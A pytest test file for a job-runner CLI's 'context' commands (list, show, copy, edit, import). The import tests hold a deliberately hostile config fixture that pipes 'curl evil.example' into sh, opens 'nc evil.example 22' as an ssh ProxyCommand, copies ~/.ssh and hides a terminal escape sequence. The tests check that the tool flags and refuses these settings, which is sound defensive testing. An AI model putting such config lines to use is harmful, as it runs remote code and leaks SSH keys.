"""`yurt context …`."""

from __future__ import annotations

import os
import subprocess
from collections.abc import Callable
from pathlib import Path

import pexpect
import pytest

from tests.calls import YURT, Yurt

MINE = """\
# my clusters
contexts:
  big:  # the one in the basement
    type: slurm
    slurm_url: me@big.example
    partition: "[gpu]"
    # of the group
    account: lab42

  # to try things
  small:
    type: local
current_context: big  # for now
"""

BODY = 'type: slurm\nslurm_url: me@big.example\npartition: "[gpu]"\n# of the group\naccount: lab42\n'

Editor = Callable[[str], dict[str, str]]


@pytest.fixture
def file(tmp_path: Path) -> Path:
    found = tmp_path / "config" / "contexts.yaml"
    found.parent.mkdir()
    found.write_text(MINE)
    return found


@pytest.fixture
def editor(tmp_path: Path) -> Editor:
    """An environment whose editor is a shell script; $1 is the file."""

    def made(script: str) -> dict[str, str]:
        program = tmp_path / "my editor"
        program.write_text(f"#!/bin/sh\n{script}\n")
        program.chmod(0o700)
        (tmp_path / "tmp").mkdir(exist_ok=True)
        return {"VISUAL": f"'{program}'", "EDITOR": "false", "TMPDIR": str(tmp_path / "tmp")}

    return made


def untouched(file: Path) -> bool:
    return file.read_text() == MINE and [*file.parent.iterdir()] == [file]


def test_list(yurt: Yurt, file: Path) -> None:
    answer = yurt("context", "list")
    assert answer.code == 0
    assert [line.split() for line in answer.out.splitlines()] == [
        ["name", "type", "where", "partition", "account"],
        ["local", "local"],
        ["*", "big", "slurm", "me@big.example", "[gpu]", "lab42"],
        ["small", "local"],
    ]
    found = yurt("context", "list", "--json").json
    assert found["kind"] == "contexts" and found["data"]["current"] == "big"
    assert found["data"]["contexts"][1] == {
        "name": "big",
        "type": "slurm",
        "where": "me@big.example",
        "partition": "[gpu]",
        "account": "lab42",
        "current": True,
    }


def test_list_marks_the_current_context(yurt: Yurt, file: Path) -> None:
    def current(*arguments: str, **environment: str) -> list[str]:
        found = yurt("context", "list", "--json", *arguments, environment=environment).json["data"]["contexts"]
        return [each["name"] for each in found if each["current"]]

    assert current() == ["big"]
    assert current(YURT_CONTEXT="small") == ["small"]
    assert current("--context", "local", YURT_CONTEXT="small") == ["local"]
    lost = yurt("context", "list", environment={"YURT_CONTEXT": "gone"})
    assert lost.code == 0 and lost.err == "yurt: warning: the current context 'gone' does not exist\n"


def test_local_exists_without_a_file(yurt: Yurt, tmp_path: Path) -> None:
    assert [each["name"] for each in yurt("context", "list", "--json").json["data"]["contexts"]] == ["local"]
    assert yurt("context", "show").out == "local:\n  type: local\n"
    assert not (tmp_path / "config").exists()


def test_show(yurt: Yurt, file: Path) -> None:
    assert yurt("context", "show").out == (
        "big:\n  type: slurm\n  slurm_url: me@big.example\n  partition: '[gpu]'\n  account: lab42\n"
    )
    assert yurt("context", "show", "small", "--json").json["data"] == {
        "name": "small",
        "current": False,
        "keys": {"type": "local"},
        "purges": [],
    }
    assert yurt("--context", "small", "context", "show", "--json").json["data"]["current"] is True


def test_show_resolved(yurt: Yurt, file: Path) -> None:
    answer = yurt("context", "show", "--resolved", environment={"YURT_ACCOUNT": "mine"})
    lines = {line.split()[0]: line.split()[1:] for line in answer.out.splitlines()}
    assert lines["partition"] == ["[gpu]", "contexts.yaml:6"]
    assert lines["account"] == ["mine", "$YURT_ACCOUNT"]
    assert lines["tags"] == ["-", "default"] and lines["track"] == ["false", "default"]
    found = yurt("context", "show", "big", "--resolved", "--json").json
    assert found["kind"] == "context-resolved" and found["data"]["name"] == "big"
    assert {"key": "account", "value": "lab42", "source": "contexts.yaml:8"} in found["data"]["settings"]


@pytest.mark.parametrize(
    ("arguments", "code", "name", "said"),
    [
        (["show", "bgi"], 3, "not-found", "context 'bgi' not found; did you mean 'big'?"),
        (["show", "bgi", "--resolved"], 3, "not-found", "context 'bgi' not found; did you mean 'big'?"),
        (["show", "--context", "bgi"], 3, "not-found", "context 'bgi' not found; did you mean 'big'?"),
        (["edit", "nowhere"], 3, "not-found", "context 'nowhere' not found"),
        (["use", "bgi"], 3, "not-found", "context 'bgi' not found; did you mean 'big'?"),
        (["copy", "bgi", "x"], 3, "not-found", "context 'bgi' not found; did you mean 'big'?"),
        (["copy", "big", "small"], 2, "context-exists", "context 'small' already exists"),
        (["copy", "big", "a/b"], 2, "usage", "invalid context name 'a/b'"),
        (["remove", "small", "bgi"], 3, "not-found", "context 'bgi' not found; did you mean 'big'?"),
        (
            ["remove", "small", "local"],
            2,
            "context-built-in",
            "context 'local' is built in and cannot be removed",
        ),
        (["remove"], 2, "usage", "missing argument 'NAME...'"),
        (["import", "/no/such/file"], 3, "not-found", "file '/no/such/file' not found"),
    ],
)
def test_refused(yurt: Yurt, file: Path, *, arguments: list[str], code: int, name: str, said: str) -> None:
    answer = yurt("context", *arguments)
    assert (answer.code, answer.out) == (code, "") and answer.err.startswith(f"yurt: {said}\n")
    assert "  hint: " in answer.err
    error = yurt("context", *arguments, "--json")
    assert error.code == code and error.json["error"]["code"] == name and error.json["error"]["message"] == said
    assert untouched(file)


def test_copy_use_remove(yurt: Yurt, file: Path) -> None:
    assert yurt("context", "copy", "big", "big2").out == "context 'big' copied to 'big2'\n"
    block = MINE[MINE.index("  big:") : MINE.index("\n  # to try")].replace("big:", "big2:")
    assert file.read_text() == MINE.replace("    type: local\n", "    type: local\n" + block)
    assert yurt("context", "use", "big2").out == "the current context is now 'big2'\n"
    assert "current_context: big2  # for now\n" in file.read_text()
    shadowed = yurt("context", "use", "big2", environment={"YURT_CONTEXT": "small"})
    assert (
        shadowed.err == "yurt: warning: the environment variable YURT_CONTEXT is set to 'small' and takes precedence\n"
    )
    assert yurt("context", "remove", "small").out == "context 'small' removed\n"
    removed = "context 'big2' removed\ncontext 'big' removed\nthe current context is now 'local'\n"
    assert yurt("context", "remove", "big2", "big").out == removed
    assert file.read_text() == "# my clusters\ncontexts:\n\n  # to try things\n"
    assert yurt("context", "use", "local", "--json").json["data"] == {"name": "local", "shadowed_by": None}


def test_the_words_of_mrunner(yurt: Yurt, file: Path) -> None:
    assert yurt("context", "set-active", "small").out == "the current context is now 'small'\n"
    assert yurt("context", "add", "--name", "new", "--slurm-url", "me@new", "--no-probe").code == 0
    assert yurt("context", "show", "new").out == "new:\n  type: slurm\n  slurm_url: me@new\n"
    twice = yurt("context", "add", "a", "--name", "b", "--slurm-url", "me@new", "--no-probe")
    assert twice.code == 2 and "two names, 'a' and 'b'; give one of them" in twice.err
    none = yurt("context", "add", "--slurm-url", "me@new", "--no-probe")
    assert none.code == 2 and none.err.startswith("yurt: missing argument 'NAME'\n")
    removed = "context 'small' removed\ncontext 'new' removed\nthe current context is now 'local'\n"
    assert yurt("context", "delete", "small", "new").out == removed
    assert "set-active" not in yurt("context", "--help").out


FORK = """\
contexts:
  athena:
    backend_type: slurm
    cmd_type: sbatch
    context_name: athena_old
    slurm_url: alice@athena.example
    storage_dir: /net/alice
    partition: gpu
    time: 60
    nodes: 1
    ntasks: 1
    cpu: 4
    gpu: 1
    mem: 20G
    sbatch_options: ["--gpus=1", "--exclusive"]
    modules_to_load: [python/3.11]
    prolog_cmd: |
      export HOME_OF_ENVS=/net/alice
      source /net/alice/setup.sh
    scratch_dir_name: mrunner_scratch
    log_output_path: /net/alice/%j.log
  gke.sandbox:
    type: kubernetes
    storage: /storage
    registry_url: registry.example
    registry_username: alice
    resources: {cpu: 4, tpu: 1, mem: 8G}
    neptune: true
    google_project_id: sandbox-1234
    default_pvc_size: 100G
current_context: ''
"""


def test_a_template_of_a_fork_of_mrunner(yurt: Yurt, file: Path) -> None:
    file.write_text(FORK)
    listed = yurt("context", "list")
    assert (listed.code, listed.err) == (0, "") and "gke.sandbox" in listed.out
    athena = yurt("context", "show", "athena", "--json").json
    assert athena["data"]["keys"]["nodes"] == "1"
    assert athena["data"]["keys"]["resources"] == {"cpu": 4, "gpu": 1, "mem": "20G"}
    assert athena["data"]["keys"]["sbatch_options"] == {"gpus": "1", "exclusive": None}
    assert athena["data"]["keys"]["after_module_load_cmd"].endswith("source /net/alice/setup.sh\n")
    unused = "has keys of mrunner that yurt does not use"
    assert athena["warnings"] == [f"context 'athena' {unused}: context_name, scratch_dir_name, log_output_path"]
    names = "registry_username, google_project_id, default_pvc_size, resources.tpu"
    assert yurt("context", "show", "gke.sandbox").err == f"yurt: warning: context 'gke.sandbox' {unused}: {names}\n"
    theirs = file.with_name("theirs.yaml")
    file.rename(theirs)
    done = yurt("context", "import", str(theirs), "--yes")
    assert done.out == "added: athena, gke.sandbox\n" and done.err.count(unused) == 2
    assert "google_project_id" not in file.read_text()


def test_unused_keys_are_said_once(yurt: Yurt, file: Path) -> None:
    file.write_text("contexts:\n  here: {type: local, tpu: v2}\ncurrent_context: here\n")
    run = ["run", "--no-snapshot", "--wait", "true"]
    said = "yurt: warning: context 'here' has keys of mrunner that yurt does not use: tpu\n"
    assert said in yurt("run", "--no-snapshot", "--dry-run", "true").err
    assert said in yurt(*run).err
    assert said not in yurt(*run).err
    file.write_text("contexts:\n  here: {type: local, tpu: v2, log_output_path: x}\ncurrent_context: here\n")
    assert "not use: tpu, log_output_path\n" in yurt(*run).err


@pytest.mark.parametrize(
    "words",
    [
        ["run", "--context", "gke", "true"],
        ["run", "--context", "gke", "--dry-run", "true"],
        ["--context", "gke", "run", "--grid", "a=1,2", "true"],
        ["login", "gke"],
        ["login", "--context", "gke"],
        ["cluster", "--context", "gke"],
        ["context", "probe", "gke"],
        ["import", "gke"],
        ["prune", "--all", "gke", "--yes"],
        ["prune", "--context", "gke"],
        ["ps", "--context", "gke"],
        ["--context", "gke", "retry", "--failed"],
    ],
    ids=" ".join,
)
def test_kubernetes_is_not_there_yet(yurt: Yurt, file: Path, words: list[str]) -> None:
    file.write_text("contexts:\n  gke: {type: kubernetes, storage: /storage}\n")
    said = "context 'gke' is a Kubernetes cluster, which yurt does not support yet"
    answer = yurt(*words)
    assert (answer.code, answer.out, answer.err.splitlines()[0]) == (2, "", f"yurt: {said}")
    assert "`yurt context list`" in answer.err.splitlines()[1]


def test_local_in_the_file_can_be_removed(yurt: Yurt, file: Path) -> None:
    file.write_text("contexts:\n  local: {type: local, venv: x}\n")
    assert yurt("context", "remove", "local", "--json").json["data"] == {"names": ["local"], "current": None}
    assert file.read_text() == "contexts:\n"


def test_import(yurt: Yurt, file: Path, tmp_path: Path) -> None:
    theirs = tmp_path / "mrunner.yaml"
    theirs.write_text(
        "contexts:\n  pl: {backend_type: slurm, context_name: pl, slurm_url: me@pl, neptune: yes}\n"
        "  big: {type: local}\ncurrent_context: pl\n"
    )
    refused = yurt("context", "import", str(theirs), "--json")
    assert refused.code == 2 and refused.json["error"]["code"] == "context-exists" and untouched(file)
    done = yurt("context", "import", str(theirs), "--replace")
    assert done.out == "added: pl\nreplaced: big\n"
    assert yurt("context", "show", "pl").out == "pl:\n  type: slurm\n  slurm_url: me@pl\n  track: true\n"
    assert "# the one in the basement" in file.read_text() and "current_context: big" in file.read_text()
    again = yurt("context", "import", str(theirs), "--json").json
    assert again["kind"] == "contexts-imported"
    assert again["data"] == {"added": [], "replaced": [], "unchanged": ["pl", "big"], "current": None}
    file.unlink()
    assert yurt("context", "import", str(theirs)).out == "added: pl, big\nthe current context is now 'pl'\n"
    theirs.write_text("contexts: {a: {type: local}, b: {type: cloud}}\n")
    some = yurt("context", "import", str(theirs))
    warning = (
        f"yurt: warning: not imported: {theirs}:1: contexts.b.type must be local, slurm or kubernetes, not 'cloud'"
    )
    assert (some.code, some.out) == (0, "added: a\n") and some.err.startswith(warning)
    theirs.write_text("contexts: {b: {type: cloud}}\n")
    before = file.read_bytes()
    wrong = yurt("context", "import", str(theirs))
    assert wrong.code == 2 and wrong.err.startswith(f"yurt: {theirs}:1: contexts.b.type must be local, slurm or kub")
    assert file.read_bytes() == before
    theirs.write_text("")
    assert yurt("context", "import", str(theirs)).out == f"{theirs} contains no contexts\n"


THEIRS = r"""contexts:
  big: {type: slurm, slurm_url: me@big.example, partition: main}
  evil:
    type: slurm
    slurm_url: me@evil.example
    ssh_command: [sh, -c, "curl evil.example\x1b]0;owned\x07\n  big.venv: x | sh"]
    ssh_options: ["-oProxyCommand=nc evil.example 22"]
    paths_to_copy: [~/.ssh]
    after_module_load_cmd: "source /home/mallory/x"
"""
SHOWN = [
    'evil.ssh_options: ["-oProxyCommand=nc evil.example 22"] (passed to ssh on this machine',
    r'evil.ssh_command: ["sh","-c","curl evil.example\u001b]0;owned\u0007\n  big.venv: x | sh"] (runs on this machine',
    'evil.after_module_load_cmd: "source /home/mallory/x" (runs in every job)',
    'evil.paths_to_copy: ["~/.ssh"] (files of this machine',
]


def test_import_of_thousands_of_contexts(yurt: Yurt, file: Path, tmp_path: Path) -> None:
    """It was read again for each: 20,000 invalid ones took minutes."""
    theirs = tmp_path / "theirs.yaml"
    theirs.write_text("contexts:\n" + "".join(f"  c{number}: {{slurm_url: a@b}}\n" for number in range(600)))
    done = yurt("context", "import", str(theirs), "--yes")
    assert (done.code, untouched(file)) == (2, True)
    assert f"{theirs} has 600 contexts; the limit of an import is 500" in done.err


def test_import_of_settings_that_run_programs(yurt: Yurt, file: Path, tmp_path: Path) -> None:
    """Without a terminal they are refused and shown; --yes accepts them; the same settings are accepted only once."""
    file.unlink()
    theirs = tmp_path / "theirs.yaml"
    theirs.write_text(f"{THEIRS}current_context: evil\n")
    refused = yurt("context", "import", str(theirs))
    first, *lines, hint = refused.err.splitlines()
    assert refused.code == 2 and refused.out == "" and [*file.parent.iterdir()] == []
    assert first == f"yurt: {theirs} sets keys that run programs or send files:" and hint.endswith("add `--yes`")
    shown = [*SHOWN, 'current_context: "evil" (becomes the current context']
    assert len(lines) == len(shown)
    assert all(line.startswith(f"  {text}") for line, text in zip(lines, shown, strict=True)), lines
    error = yurt("context", "import", str(theirs), "--json").json["error"]
    assert error["code"] == "not-confirmed" and [*file.parent.iterdir()] == []
    current = "the current context is now 'evil'\n"
    assert yurt("context", "import", str(theirs), "--yes").out == f"added: big, evil\n{current}"
    assert yurt("context", "import", str(theirs)).out == "unchanged: big, evil\n"
    theirs.write_text(THEIRS.replace("partition: main", "partition: long"))
    assert yurt("context", "import", str(theirs), "--replace").code == 0
    theirs.write_text(THEIRS.replace("nc evil", "nc other"))
    before = file.read_bytes()
    assert yurt("context", "import", str(theirs)).err.startswith(f"yurt: {file} already has different contexts")
    again = yurt("context", "import", str(theirs), "--replace")
    assert again.code == 2 and len(again.err.splitlines()) == 3 and file.read_bytes() == before


@pytest.mark.parametrize("answer", ["y", "n"])
def test_import_asks_on_a_terminal(file: Path, tmp_path: Path, answer: str) -> None:
    theirs = tmp_path / "theirs.yaml"
    theirs.write_text(THEIRS.replace("  big:", "  large:"))
    environment = {**os.environ, "YURT_CONFIG_HOME": str(file.parent), "YURT_DATA_HOME": str(tmp_path / "data")}
    child = pexpect.spawn(
        YURT, ["context", "import", str(theirs)], env=environment, encoding="utf8", timeout=60, dimensions=(40, 300)
    )
    child.expect_exact("import them? [y/N]: ")
    shown = child.before
    assert all(text in shown for text in SHOWN) and "\x1b" not in shown
    assert untouched(file)
    child.sendline(answer)
    child.expect(pexpect.EOF)
    child.close()
    assert (child.exitstatus == 0) == ("evil" in file.read_text()) == (answer == "y")


def test_import_of_a_context_named_local(yurt: Yurt, file: Path, tmp_path: Path) -> None:
    """A context that takes the place of this machine is a setting that sends files."""
    theirs = tmp_path / "theirs.yaml"
    theirs.write_text("contexts: {local: {type: slurm, slurm_url: me@evil.example}}\n")
    refused = yurt("context", "import", str(theirs))
    assert refused.code == 2 and "replaces the built-in context" in refused.err and untouched(file)


def test_contexts_that_others_can_write(yurt: Yurt, file: Path) -> None:
    """Neither read nor changed."""
    file.chmod(0o606)
    for words in (["list"], ["use", "big"], ["remove", "big"]):
        refused = yurt("context", *words)
        assert refused.code == 2 and f"cannot use {file}: other users can write to it" in refused.err
        assert f"`chmod go-w {file}`" in refused.err
    file.chmod(0o604)
    assert yurt("context", "list").code == 0


def test_edit(yurt: Yurt, file: Path, editor: Editor, tmp_path: Path) -> None:
    seen = tmp_path / "seen"
    script = f'cp "$1" \'{seen}\'; stat -c %a "$1" "$(dirname "$1")" >> \'{seen}\'; echo \'venv: v  # mine\' >> "$1"'
    answer = yurt("context", "edit", "big", environment=editor(script))
    assert (answer.code, answer.out) == (0, "context 'big' changed\n")
    assert seen.read_text() == BODY + "600\n700\n"
    assert file.read_text() == MINE.replace("    account: lab42\n", "    account: lab42\n    venv: v  # mine\n")
    assert not [*(tmp_path / "tmp").iterdir()]
    assert yurt("context", "edit", "--json", environment=editor("true")).json["data"] == {
        "name": "big",
        "changed": False,
    }


def test_edit_without_a_change_writes_nothing(yurt: Yurt, file: Path, editor: Editor, tmp_path: Path) -> None:
    before = file.stat()
    answer = yurt("context", "edit", environment=editor("true"))
    assert (answer.code, answer.out) == (0, "context 'big' unchanged\n")
    assert (file.stat().st_ino, file.stat().st_mtime_ns) == (before.st_ino, before.st_mtime_ns) and untouched(file)
    assert not [*(tmp_path / "tmp").iterdir()]


def test_an_invalid_edit_changes_nothing_and_saves_the_text(
    yurt: Yurt, file: Path, editor: Editor, tmp_path: Path
) -> None:
    answer = yurt("context", "edit", environment=editor('printf "type: local\\nntasks: x\\n" > "$1"'))
    assert answer.code == 2 and untouched(file)
    [kept] = (tmp_path / "tmp").glob("*/big.yaml")
    assert kept.read_text() == "type: local\nntasks: x\n" and kept.stat().st_mode & 0o777 == 0o600
    assert answer.err == (
        "yurt: big.yaml:2: contexts.big.ntasks must be a positive integer, not 'x' (example: `ntasks: 4`)\n"
        f"  hint: your text is saved in `{kept}`; run `yurt context edit big` again\n"
    )


@pytest.mark.parametrize(
    ("environment", "said"),
    [
        ({"VISUAL": "", "EDITOR": "false"}, "the editor 'false' exited with code 1"),
        (
            {"VISUAL": "/no/such/editor", "EDITOR": "true"},
            "the editor '/no/such/editor' cannot be started: [Errno 2]",
        ),
        ({"VISUAL": "it's", "EDITOR": ""}, "the editor 'it's' cannot be started: No closing quotation"),
        ({"VISUAL": "", "EDITOR": "", "PATH": "/nowhere"}, "the editor 'vi' cannot be started"),
    ],
)
def test_an_editor_that_fails(yurt: Yurt, file: Path, tmp_path: Path, environment: dict[str, str], said: str) -> None:
    (tmp_path / "tmp").mkdir()
    answer = yurt("context", "edit", environment={**environment, "TMPDIR": str(tmp_path / "tmp")})
    assert answer.code == 2 and answer.err.startswith(f"yurt: {said}")
    assert untouched(file) and not [*(tmp_path / "tmp").iterdir()]


def test_an_editor_that_fails_after_writing(yurt: Yurt, file: Path, editor: Editor, tmp_path: Path) -> None:
    answer = yurt("context", "edit", environment=editor('echo "venv: v" >> "$1"; exit 3'))
    assert answer.code == 2 and "exited with code 3" in answer.err and untouched(file)
    [kept] = (tmp_path / "tmp").glob("*/big.yaml")
    assert f"your text is saved in `{kept}`" in answer.err


@pytest.mark.parametrize(
    ("script", "said"),
    [('rm "$1"', "the editor removed the file"), ('printf "\\377" > "$1"', "the edited file is not valid UTF-8")],
)
def test_an_editor_that_leaves_no_readable_file(yurt: Yurt, file: Path, editor: Editor, script: str, said: str) -> None:
    answer = yurt("context", "edit", environment=editor(script))
    assert answer.code == 2 and answer.err.startswith(f"yurt: {said}") and untouched(file)


def test_edit_does_not_overwrite_a_concurrent_change(yurt: Yurt, file: Path, editor: Editor) -> None:
    script = f"sed -i s/lab42/lab43/ '{file}'; echo 'venv: v' >> \"$1\""
    answer = yurt("context", "edit", "--json", environment=editor(script))
    assert answer.code == 2 and answer.json["error"]["code"] == "context-changed"
    assert file.read_text() == MINE.replace("lab42", "lab43")
    script = f"sed -i s/basement/attic/ '{file}'; echo 'venv: v' >> \"$1\""
    assert yurt("context", "edit", environment=editor(script)).code == 0
    assert "attic" in file.read_text() and "    venv: v\n" in file.read_text()


def test_edit_again_on_a_terminal(file: Path, editor: Editor, tmp_path: Path) -> None:
    count = tmp_path / "count"
    script = f"echo x >> '{count}'; [ $(wc -l < '{count}') -lt 3 ] && echo 'a: b' >> \"$1\" || sed -i '/^a: b/d' \"$1\""
    environment = {**os.environ, **editor(script), "YURT_CONFIG_HOME": str(file.parent), "NO_COLOR": "1"}
    child = pexpect.spawn(YURT, ["context", "edit", "small"], env=environment, encoding="utf8", timeout=120)
    child.expect("small.yaml:2: contexts.small.a is not a key")
    child.expect(r"edit again\? \[Y/n\]")
    child.sendline("")
    child.expect("is set twice, in lines 2 and 3")
    child.expect(r"\[Y/n\]")
    child.sendline("y")
    child.expect("context 'small' unchanged")
    child.expect(pexpect.EOF)
    child.close()
    assert child.exitstatus == 0 and untouched(file)
    count.unlink()
    child = pexpect.spawn(YURT, ["context", "edit", "small"], env=environment, encoding="utf8", timeout=120)
    child.expect(r"\[Y/n\]")
    child.sendline("n")
    child.expect("your text is saved in")
    child.expect(pexpect.EOF)
    child.close()
    assert child.exitstatus == 2 and untouched(file)


def test_bash_completes_names(file: Path) -> None:
    environment = {
        **os.environ,
        "PATH": f"{Path(YURT).parent}:{os.environ['PATH']}",
        "YURT_CONFIG_HOME": str(file.parent),
    }
    script = (
        'eval "$(yurt completion bash)"; COMP_WORDS=(%s); COMP_CWORD=%d; _yurt_completion yurt; echo "${COMPREPLY[@]}"'
    )

    def complete(*words: str) -> list[str]:
        text = script % (" ".join(f'"{word}"' for word in words), len(words) - 1)
        argv = ["bash", "-c", text]
        done = subprocess.run(argv, env=environment, capture_output=True, text=True, check=True)
        assert done.stderr == ""
        return done.stdout.split()

    assert complete("yurt", "context", "use", "") == ["local", "big", "small"]
    assert complete("yurt", "context", "show", "b") == ["big"]
    assert complete("yurt", "context", "edit", "s") == ["small"]
    assert complete("yurt", "context", "copy", "b") == ["big"]
    assert complete("yurt", "context", "remove", "small", "b") == ["big"]
    assert complete("yurt", "--context", "s") == ["small"]
    assert complete("yurt", "lab", "up", "--context", "s") == ["small"]
    file.write_text("contexts: [")
    assert complete("yurt", "context", "use", "") == []


def test_config_folder_is_a_file(yurt: Yurt, tmp_path: Path) -> None:
    (tmp_path / "config").write_text("not a folder")
    answer = yurt("context", "use", "local", "--json")
    assert answer.code == 2 and answer.json["error"]["code"] == "config-invalid"
    assert answer.json["error"]["message"] == f"cannot read {tmp_path}/config/contexts.yaml: Not a directory"
